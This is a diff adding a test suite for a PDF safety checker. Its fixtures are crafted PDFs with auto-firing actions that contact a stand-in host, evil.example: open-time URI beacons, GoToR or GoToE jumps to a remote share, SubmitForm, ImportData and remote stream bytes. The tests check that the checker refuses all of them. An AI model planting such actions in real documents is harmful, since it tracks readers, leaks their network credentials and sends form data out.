@@ -1,0 +1,57 @@
+import { PDFContext } from '@cantoo/pdf-lib'
+import { describe, expect, it } from 'vitest'
+import { pdf } from '#lib/server/testing/files.ts'
+import { isHarmlessPdf } from './harmless-pdf.ts'
+
+const URI = '<</S/URI/URI(https://evil.example/seen)>>'
+/** More objects behind the catalog. */
+const withObjects = (catalog: string, objects: string) =>
+  Buffer.from(pdf(catalog).toString('latin1').replace('trailer', `${objects}\ntrailer`), 'latin1')
+
+describe('R27 a paper does nothing by itself and reaches nobody', () => {
+  it.each<[string, Buffer]>([
+    ['opens an address as it is opened', pdf(`/OpenAction${URI}`)],
+    ['opens one behind a harmless move', pdf(`/OpenAction<</S/GoTo/D[0/Fit]/Next${URI}>>`)],
+    ['opens one among many', pdf(`/OpenAction<</S/GoTo/D[0/Fit]/Next[<</S/Named/N/NextPage>>${URI}]>>`)],
+    ['opens one that stands elsewhere', withObjects('/OpenAction 9 0 R', `9 0 obj${URI}endobj`)],
+    ['opens one as it is closed', pdf(`/AA<</WC${URI}>>`)],
+    [
+      'opens one as a page is shown',
+      withObjects('', `9 0 obj<</Type/Page/AA 8 0 R>>endobj 8 0 obj<</O 7 0 R>>endobj 7 0 obj${URI}endobj`),
+    ],
+    [
+      'opens one by an object that a later one replaces',
+      withObjects('/OpenAction 9 0 R', `9 0 obj${URI}endobj 9 0 obj[0/Fit]endobj`),
+    ],
+    ['goes to a share', pdf('/AA<</O<</S/GoToE/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>>>')],
+    ['goes to another paper', pdf('/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>')],
+    ['goes there when pressed', withObjects('', '9 0 obj<</Type/Annot/A<</S/Go#54oR/F(x)>>>>endobj')],
+    ['sends its form', pdf('/OpenAction<</S/SubmitForm/F(https://evil.example)>>')],
+    ['fills its form from elsewhere', pdf('/OpenAction<</S/ImportData/F(x)>>')],
+    [
+      'has bytes that lie elsewhere',
+      withObjects('', '9 0 obj<</Length 0/F(\\\\\\\\evil.example\\\\x)>>stream\n\nendstream endobj'),
+    ],
+  ])('one that %s is refused', async (_, bytes) => {
+    expect(await isHarmlessPdf(bytes)).toBe(false)
+  })
+
+  it.each<[string, Buffer]>([
+    ['a link that is pressed', withObjects('', `9 0 obj<</Type/Annot/Subtype/Link/A${URI}>>endobj`)],
+    ['a page to begin with', pdf('/OpenAction[2 0 R/FitH 0]')],
+    ['a page to begin with as a move', pdf('/OpenAction<</S/GoTo/D[2 0 R/Fit]>>')],
+    ['a move without end', withObjects('/OpenAction 9 0 R', '9 0 obj<</S/GoTo/D[0/Fit]/Next 9 0 R>>endobj')],
+    [
+      'a name that says so',
+      withObjects('', '9 0 obj<</Type/Page/Resources<</Font<</AA<</Type/Font>>>>>>>>endobj'),
+    ],
+  ])('%s is fine', async (_, bytes) => {
+    expect(await isHarmlessPdf(bytes)).toBe(true)
+  })
+
+  it('leaves the parser as it was', async () => {
+    const { assign } = PDFContext.prototype
+    await isHarmlessPdf(pdf())
+    expect(PDFContext.prototype.assign).toBe(assign)
+  })
+})
